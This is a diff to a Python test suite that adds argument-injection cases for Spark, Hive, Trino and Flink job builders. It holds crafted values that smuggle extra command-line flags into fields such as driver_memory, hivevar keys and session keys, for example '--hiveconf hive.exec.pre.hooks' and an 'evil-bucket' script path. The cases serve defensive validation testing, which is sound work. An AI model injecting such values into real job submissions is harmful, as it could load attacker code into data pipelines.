@@ -118,6 +118,8 @@ SPARK_DRIVER_CASES: list[tuple[str, dict[str, Any], str, Any]] = [
     ("archives", {"archives": [X]}, "archives", "s3://acme-code/a.zip,s3://evil-bucket/b.zip"),
     ("packages", {"packages": [X]}, "packages", "a:b:1,evil:pwn:6.6.6"),
     ("resources", {"resources": SparkResources(executor_memory=X)}, "executor_memory", INJECT),
+    ("resources-driver", {"resources": SparkResources(driver_memory=X)}, "driver_memory", "2g\n--jars"),
+    ("entry_point_args-nul", {"entry_point_args": ["--in", X]}, "entry_point_args", "a\x00b"),
     ("entry_point", {"entry_point": X}, "entry_point", "s3://acme-code/a.py --jars s3://evil-bucket/p.jar"),
 ]
 
@@ -145,6 +147,16 @@ CASES: list[Case] = [
         ),
         "hivevar",
         HIVE_INJECT,
+    ),
+    (
+        "serverless-hive-hivevar-key",
+        lambda: _serverless_op(
+            ServerlessHiveJob(
+                name="h", execution_role_arn=ROLE, query="s3://acme-code/q.sql", hivevar={X: "1"}
+            )
+        ),
+        "hivevar",
+        "D=1 --hiveconf hive.exec.pre.hooks",
     ),
     (
         "serverless-hive-hiveconf",
@@ -236,6 +248,30 @@ CASES: list[Case] = [
         lambda: _step_op(HiveStep(name="h", script="s3://acme-code/q.hql", variables={"D": X})),
         "variables",
         HIVE_INJECT,
+    ),
+    (
+        "step-hive-variables-key",
+        lambda: _step_op(HiveStep(name="h", script="s3://acme-code/q.hql", variables={X: "1"})),
+        "variables",
+        "D=1 -f s3://evil-bucket/q.hql",
+    ),
+    (
+        "step-spark-driver_memory",
+        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", driver_memory=X)),
+        "driver_memory",
+        "4g --conf spark.x=1",
+    ),
+    (
+        "step-trino-session-key",
+        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", session={X: "1"})),
+        "session",
+        "a=1 --execute",
+    ),
+    (
+        "step-flink-properties-key",
+        lambda: _step_op(FlinkStep(name="f", jar="s3://acme-code/f.jar", properties={X: "2"})),
+        "properties",
+        "a=1 -Db",
     ),
     (
         "step-hive-hiveconf",
